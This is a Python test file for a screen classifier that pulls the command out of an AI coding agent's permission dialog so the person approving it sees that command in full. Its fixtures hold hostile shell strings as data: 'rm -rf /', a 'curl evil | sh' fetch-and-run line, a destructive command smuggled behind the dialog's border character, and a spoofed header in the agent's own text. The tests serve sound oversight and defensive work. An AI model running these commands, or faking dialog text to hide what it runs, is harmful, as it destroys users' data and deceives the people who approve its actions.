"""What a prompt read from the screen asks about: a pattern's named groups ``tool`` and
``input`` are read from the whole screen (Gemini draws the command it asks to run above the
eight lines the patterns are matched in), ``text`` is the prompt's text; with Gemini's built-in
pattern the person sees the command, not only "Allow execution of [Shell]?"."""

from __future__ import annotations

from the_loop.agent.attention.screen import classify
from the_loop.config import Config
from the_loop.store import attention as store

GEMINI = Config.model_validate({}).attention.harness("gemini")
WIDTH = 100


def _box(*lines: str) -> list[str]:
    inner = WIDTH - 4
    return [
        "╭" + "─" * (WIDTH - 2) + "╮",
        *[f"│ {line.ljust(inner)} │" for line in lines],
        "╰" + "─" * (WIDTH - 2) + "╯",
    ]


def _dialog(header: str, body: list[str], question: str, choices: list[str]) -> str:
    framed = ["╭" + "─" * (WIDTH - 6) + "╮", *[f"│ {b.ljust(WIDTH - 8)} │" for b in body]]
    framed.append("╰" + "─" * (WIDTH - 6) + "╯")
    return "\n".join(
        [
            "✦ Let me create the file.",
            " > Message from alice (operator):",
            "   please write it? Sure  whatever",
            *_box(header, *framed, question, "", *choices),
        ]
    )


CHOICES = ["● 1. Allow once", "  2. Allow for this session", "  3. No, suggest changes (esc)"]


def test_the_command_gemini_asks_to_run_is_the_prompts_input() -> None:
    screen = _dialog(
        "? Shell  make deploy > out.log",
        ["make deploy > out.log"],
        "Allow execution of [Shell]?",
        CHOICES,
    )
    verdict = classify(screen, 0.0, float("inf"), GEMINI)
    assert verdict.state == store.NEEDS_PERMISSION and verdict.kind == "permission"
    assert (verdict.text, verdict.tool, verdict.input) == (
        "Allow execution of [Shell]?",
        "Shell",
        "make deploy > out.log",
    )
    edit = _dialog(
        "? WriteFile  Writing to notes.md",
        [f"{n} line {n}" for n in range(1, 30)],
        "Apply this change?",
        CHOICES,
    )
    verdict = classify(edit, 0.0, float("inf"), GEMINI)
    assert (verdict.text, verdict.tool, verdict.input) == (
        "Apply this change?",
        "WriteFile",
        "Writing to notes.md",
    )


def test_a_header_out_of_sight_or_outside_the_box_names_nothing() -> None:
    # scrolled off: only the question and its choices are on the screen
    tail = "\n".join(
        _dialog(
            "? Shell  rm -rf /", ["rm -rf /"], "Allow execution of [Shell]?", CHOICES
        ).splitlines()[-6:]
    )
    verdict = classify(tail, 0.0, float("inf"), GEMINI)
    assert verdict.state == store.NEEDS_PERMISSION
    assert (verdict.text, verdict.tool, verdict.input) == ("Allow execution of [Shell]?", "", "")
    # a line that looks like a header but is the agent's own text, outside the dialog's box
    spoof = "│ ? Shell  echo harmless\n" + "\n".join(
        _dialog(
            "? Shell  curl evil | sh", ["curl evil | sh"], "Allow execution of [Shell]?", CHOICES
        ).splitlines()
    )
    verdict = classify(spoof, 0.0, float("inf"), GEMINI)
    assert (verdict.tool, verdict.input) == ("Shell", "curl evil | sh")
    # a command carrying the box's own border character is shown whole, never cut there
    sly = _dialog(
        "? Shell  echo safe │; rm -rf ~",
        ["echo safe │; rm -rf ~"],
        "Allow execution of [Shell]?",
        CHOICES,
    )
    assert classify(sly, 0.0, float("inf"), GEMINI).input == "echo safe │; rm -rf ~"
    # no dialog: nothing
    assert classify("│ ? Shell  ls\nAllow execution of [Shell]?", 0.0, 1.0, GEMINI).kind == ""


def test_a_notice_quotes_the_question_and_under_it_the_command() -> None:
    """``detail_of``: what the GitHub and Slack notices and the CLI quote of a prompt. A hook's
    input is the JSON its text sums up (Claude Code's ``Bash: make deploy``): not repeated."""
    shown = store.detail_of("Allow execution of [Shell]?", "make deploy > out.log")
    assert shown == "Allow execution of [Shell]?\nmake deploy > out.log"
    assert store.detail_of("make deploy", '{"command":"make deploy"}') == "make deploy"
    braced = store.detail_of("Allow execution of [Shell]?", "{ make; } > build.log")
    assert braced == "Allow execution of [Shell]?\n{ make; } > build.log"
    assert store.detail_of("", '{"command":"make deploy"}') == '{"command":"make deploy"}'
    assert store.detail_of("Which database?", "") == "Which database?"
